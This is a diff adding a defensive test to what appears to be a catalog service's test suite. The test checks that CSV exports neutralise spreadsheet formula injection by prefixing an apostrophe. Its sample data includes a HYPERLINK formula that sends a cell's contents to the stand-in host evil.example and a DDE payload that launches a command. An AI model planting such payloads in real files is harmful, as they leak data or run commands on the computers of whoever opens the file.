@@ -5,6 +5,8 @@ database's own constraints."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from collections.abc import AsyncIterator
 from dataclasses import dataclass
 from datetime import UTC, datetime
@@ -307,6 +309,49 @@ async def test_the_sku_export_is_the_canonical_form_of_the_import(client: httpx.
         "71053,,WHITE METAL LANTERN,,1,3.39,GBP",
         "85123A,04006381333931,WHITE HANGING HEART T-LIGHT HOLDER,120.5,6,2.55,GBP",
     ]
+
+
+# --------------------------------------------------------------------------- formula injection
+
+# Names a spreadsheet would run if an export wrote them as they are (OWASP, CSV injection).
+FORMULA_NAMES = {
+    "EVIL-1": '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
+    "EVIL-2": "+cmd|' /C calc'!A0",
+    "EVIL-3": "-2+3",
+    "EVIL-4": "@SUM(A1:A9)",
+}
+
+
+async def test_formula_names_are_exported_as_text_and_import_back_unchanged(client: httpx.AsyncClient) -> None:
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(["sku_id", "gtin", "name", "unit_weight_g", "pack_size", "price", "currency"])
+    for sku_id, name in FORMULA_NAMES.items():
+        writer.writerow([sku_id, "", name, "", "1", "2.50", "GBP"])
+    writer.writerow(["=SKU", "", "-5", "", "1", "0", "GBP"])  # a formula-like id, a name that is a plain number
+    # An apostrophe before a formula is the spreadsheet's text marker (and our export's), not part of the name.
+    writer.writerow(["EVIL-5", "", "'=SUM(A1)", "", "1", "0", "GBP"])
+    assert await imported(client, "skus", out.getvalue()) == {"created": 6, "updated": 0, "unchanged": 0}
+    # Imports take names as given: the JSON API shows them as they are (JSON is not a spreadsheet).
+    items = {item["sku_id"]: item["name"] for item in (await client.get("/api/v1/catalog/skus")).json()["items"]}
+    assert items == FORMULA_NAMES | {"=SKU": "-5", "EVIL-5": "=SUM(A1)"}
+
+    exported = (await client.get("/api/v1/catalog/skus/export")).text
+    rows = {row["sku_id"]: row for row in csv.DictReader(io.StringIO(exported))}
+    assert {sku_id: rows[sku_id]["name"] for sku_id in [*FORMULA_NAMES, "EVIL-5"]} == {
+        sku_id: "'" + name for sku_id, name in (FORMULA_NAMES | {"EVIL-5": "=SUM(A1)"}).items()
+    }
+    assert "'=SKU" in rows  # the id column too: every text cell
+    assert rows["'=SKU"]["name"] == "-5"  # a plain number is no formula and is left alone
+    for row in rows.values():
+        assert row["price"] in ("2.50", "0.00", "0")  # numbers stay numbers
+        assert row["pack_size"] == "1"
+        assert all(not cell or cell[0] not in "=+@" for cell in row.values())
+
+    # The export imports back as it was: the apostrophes are the export's, not part of the names.
+    assert await imported(client, "skus", exported) == {"created": 0, "updated": 0, "unchanged": 6}
+    again = {item["sku_id"]: item["name"] for item in (await client.get("/api/v1/catalog/skus")).json()["items"]}
+    assert again == items
 
 
 # --------------------------------------------------------------------------- the database itself
